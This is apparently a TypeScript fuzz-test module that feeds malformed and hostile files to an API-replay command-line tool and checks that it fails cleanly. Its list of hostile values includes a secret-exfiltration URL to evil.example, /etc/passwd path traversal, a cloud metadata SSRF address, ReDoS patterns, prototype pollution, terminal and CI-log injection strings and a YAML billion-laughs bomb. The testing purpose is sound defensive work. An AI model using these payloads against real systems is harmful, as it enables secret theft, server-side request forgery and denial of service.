import { readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { stringify } from 'yaml'
import { pick, type AttackClass, type Attempt, type Draw } from '../attack.ts'
import { brokenBy, openInFolder, runCommand, secretVariable } from './command.ts'

type Json = null | boolean | number | string | readonly Json[] | { readonly [name: string]: Json }

const answer = {
  status: 200,
  headers: [{ name: 'content-type', value: 'application/json' }],
  content: { mimeType: 'application/json', text: '{"sessions":[],"nextCursor":null,"totalCount":0}' },
}
const entry = {
  startedDateTime: '2026-03-02T09:00:00.000Z',
  time: 5,
  request: { method: 'GET', url: 'https://research.example/api/v2/sessions', headers: [{ name: 'authorization', value: 'Bearer k' }] },
  response: answer,
}

/** Sound files of each kind that travels, with the command that reads one. */
const kinds: readonly {
  readonly name: string
  readonly sound: Json
  readonly asText: (value: Json) => string
  readonly args: (file: string) => readonly string[]
}[] = [
  {
    name: 'scenario.yaml',
    sound: {
      format: 1,
      title: 'A report',
      story: 'It is created and read.',
      given: {
        seed: 1,
        clock: '2026-03-02T09:00:00Z',
        accounts: { default: { plan: 'pro' } },
        faults: [{ on: { operation: 'listSessions' }, times: 1, does: { answer: { status: 500 } } }],
      },
      steps: [
        { call: 'createReport', body: { researchQuestion: 'Does tea help?' }, save: { id: '/body/sessionId' }, expect: { status: 202 } },
        { call: 'getReport', path: { sessionId: '${id}' }, until: { body: { status: 'completed' } }, every: 'PT30S', atMost: 'PT30M' },
        { call: 'listSessions', query: { limit: 2 }, expect: { status: { $any: [200, 500] }, body: { totalCount: { $type: 'integer' } } } },
      ],
    },
    asText: toYaml,
    args: (file) => ['replay', file],
  },
  {
    name: 'world.yaml',
    sound: {
      format: 1,
      title: 'A world',
      steps: [],
      given: { accounts: { default: { plan: 'pro' } }, sessions: [{ id: 'a', type: 'report', researchQuestion: 'Does tea help?' }] },
    },
    asText: toYaml,
    args: (file) => ['replay', file, '--dry-run'],
  },
  {
    name: 'target.yaml',
    sound: {
      baseUrl: 'http://127.0.0.1:9/api/v2',
      keys: { default: 'k' },
      headers: { 'x-gateway': 'g' },
      sessions: { completedReport: '11111111-1111-4111-8111-111111111111' },
      rateLimit: { mayTrip: false },
    },
    asText: toYaml,
    args: (file) => ['conform', '--target', file, '--profile', 'observe', '--rule', 'sessions/list/**', '--dry-run'],
  },
  {
    name: 'known.yaml',
    sound: [{ rule: 'sessions/list/total-count', reason: 'RS-1', owner: 'team a', until: '2026-12-01' }],
    asText: toYaml,
    args: (file) => ['inspect', 'sound.har', '--known-failures', file],
  },
  {
    name: 'bug.har',
    sound: {
      log: {
        version: '1.2',
        creator: { name: 'x', version: '1' },
        entries: [entry, { ...entry, startedDateTime: '2026-03-02T09:00:05.000Z' }],
      },
    },
    asText: (value) => JSON.stringify(value),
    args: (file) => ['inspect', file, '--scenario', 'out.yaml', '--world', 'out-world.yaml'],
  },
  {
    name: 'ticket.txt',
    sound: ['curl -X POST https://research.example/api/v2/search/papers', "-H 'authorization: Bearer k'", '--json \'{"query":"tea"}\''],
    asText: (value) =>
      Array.isArray(value)
        ? value.map((part) => (typeof part === 'string' ? part : JSON.stringify(part))).join(' ')
        : JSON.stringify(value),
    args: (file) => ['inspect', file],
  },
]

const acting = 'a\u001B[31mb\u009B2Jc\u202Ed\n::error::pwned\n##[error]pwned'

/** YAML, or the JSON in it where a value is too deep for a writer of YAML. */
function toYaml(value: Json): string {
  try {
    return stringify(value)
  } catch {
    return JSON.stringify(value)
  }
}

/** Values that hurt a reader who trusts a file. */
const hurting: readonly ((draw: Draw) => Json)[] = [
  () => acting,
  () => `\${env:${secretVariable}}`,
  () => `http://evil.example/\${env:${secretVariable}}`,
  () => 'file:///etc/passwd',
  () => '../../../../etc/passwd',
  () => 'http://169.254.169.254/latest/meta-data',
  () => '(a+)+$',
  () => ({ $match: '^(([a-z])+.)+[A-Z]([a-z])+$' }),
  () => ({ $match: '(' }),
  () => 'x'.repeat(300_000),
  () => nested(4_000),
  () => Array.from({ length: 20_000 }, (_, at) => at),
  () => ({ __proto__x: 1, constructor: { prototype: { polluted: true } } }),
  (draw) => pick([1e308, -1, 0.5, 2 ** 53, Number.MAX_SAFE_INTEGER, -0], draw),
  () => 'P999999999Y',
  () => 'PT0S',
  () => '+275760-09-13T00:00:00.000Z',
  () => '9999-12-31T23:59:59Z',
  () => null,
  () => [],
  () => ({}),
  () => true,
  () => '\uD800',
  () => '\u0000',
]

function nested(depth: number): Json {
  let value: Json = 1
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { a: value }
  return value
}

/** Puts values in the place of others, or names in the place of names. */
function withHurt(value: Json, draw: Draw, most: number): Json {
  if (most === 0 || draw(most) === 0) return pick(hurting, draw)(draw)
  if (Array.isArray(value)) {
    const list: readonly Json[] = value
    const at = draw(list.length + 1)
    return at === list.length
      ? [...list, pick(hurting, draw)(draw)]
      : list.map((one, index) => (index === at ? withHurt(one, draw, most - 1) : one))
  }
  if (value !== null && typeof value === 'object') {
    const members = Object.entries(value)
    const at = draw(members.length + 1)
    if (at === members.length) {
      const name = pick(['__proto__', 'constructor', acting, '', 'toString'], draw)
      return Object.fromEntries([...members, [name, pick(hurting, draw)(draw)]])
    }
    return Object.fromEntries(members.map(([name, one], index) => [name, index === at ? withHurt(one, draw, most - 1) : one]))
  }
  return pick(hurting, draw)(draw)
}

/** Texts that no serializer writes. */
const broken: readonly ((text: string, draw: Draw) => string)[] = [
  (text, draw) => text.slice(0, draw(text.length)),
  (text, draw) => `${text.slice(0, draw(text.length))}\u0000\u0007${text.slice(draw(text.length))}`,
  (text) =>
    `a: &a [x, x]\nb: &b [*a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c]\ne: [*d, *d, *d, *d, *d, *d]\n${text}`,
  (text) => `!!js/function 'function () {}'\n${text}`,
  () => '['.repeat(50_000),
  () => '{"a":'.repeat(50_000),
  () => '',
  (text) => `\uFEFF${text}`,
  (text) => `${text}\n---\n${text}`,
  () => manyNames(4000),
]

/** A scenario with many names, each of which it mistypes. */
function manyNames(count: number): string {
  const names = Array.from({ length: count }, (_, at) => `abcdefghijklmnopqrs${at}`)
  const saved = names.map((name) => `${name}: /body/totalCount`).join(', ')
  const asked = names.map((name, at) => `q${at}: '\${${name}x}'`).join(', ')
  return `format: 1\ntitle: Names\nsteps:\n  - { call: listSessions, save: { ${saved} } }\n  - { call: listSessions, query: { ${asked} } }\n`
}

export const files: AttackClass = {
  name: 'files',
  holds: 'a file of a stranger is read or refused in words: no bug, no hang, no secret, nothing that acts, no other file written',
  open() {
    // The first attempt shows whether texts act at all.
    const first = [{ name: 'scenario.yaml', text: toYaml({ format: 1, title: acting, steps: [{ call: 'listSessions' }] }) }]
    return openInFolder(
      (folder, draw) => {
        const [shown] = first.splice(0)
        return shown === undefined ? attemptIn(folder, draw) : attemptWith(folder, { ...shown, args: (file) => ['replay', file] })
      },
      (folder) => writeFileSync(join(folder, 'sound.har'), JSON.stringify({ log: { version: '1.2', entries: [entry] } })),
    )
  },
}

function attemptIn(folder: string, draw: Draw): Attempt {
  const { name, sound, asText, args } = pick(kinds, draw)
  const value = Array.from({ length: draw(3) + 1 }).reduce<Json>((made) => withHurt(made, draw, 5), sound)
  const text = draw(5) === 0 ? pick(broken, draw)(asText(sound), draw) : asText(value)
  return attemptWith(folder, { name, text, args })
}

type Given = { readonly name: string; readonly text: string; readonly args: (file: string) => readonly string[] }

function attemptWith(folder: string, { name, text, args }: Given): Attempt {
  return {
    name: `${name} ${JSON.stringify(text.slice(0, 300))}`,
    async make() {
      const own = ['out.yaml', 'out-world.yaml']
      for (const file of own) rmSync(join(folder, file), { force: true })
      writeFileSync(join(folder, name), text)
      const ended = await runCommand(args(name), folder)
      const others = readdirSync(folder).filter((file) => ![name, 'sound.har', ...own].includes(file))
      rmSync(join(folder, name))
      return brokenBy(ended) ?? (others.length > 0 ? `it wrote ${others.join(', ')}` : null)
    },
  }
}
